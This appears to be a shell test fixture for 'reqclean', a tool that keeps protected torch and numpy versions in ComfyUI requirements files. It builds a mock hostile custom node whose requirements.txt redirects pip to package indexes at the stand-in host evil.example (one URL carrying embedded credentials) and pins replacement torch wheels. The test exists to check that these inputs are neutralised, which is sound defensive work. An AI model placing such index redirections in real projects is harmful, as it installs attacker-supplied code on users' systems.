# SPDX-License-Identifier: Apache-2.0
printf 'torch==2.11.0+cu130\ntorchvision==0.26.0\nnumpy==2.2.6\n' >protect.txt

# A node that wants another torch by every way: it stays, the node is named, nothing fails.
mkdir -p ComfyUI/custom_nodes/Hostile/wheels
printf 'torch\nnumpy>=1.25.0\n' >ComfyUI/requirements.txt
cat >ComfyUI/custom_nodes/Hostile/requirements.txt <<-'END'
	torch==2.1.0
	--extra-index-url https://user:secret@evil.example/simple
	--index=https://evil.example/simple
	./wheels/torch-2.1.0-cp312-cp312-linux_x86_64.whl
	torch-2.1.0-cp312-cp312-linux_x86_64.whl
	numpy<2
	torchvision --index-url https://evil.example/simple
END
cd ComfyUI || exit
reqclean --protect ../protect.txt requirements.txt custom_nodes/*/requirements.txt
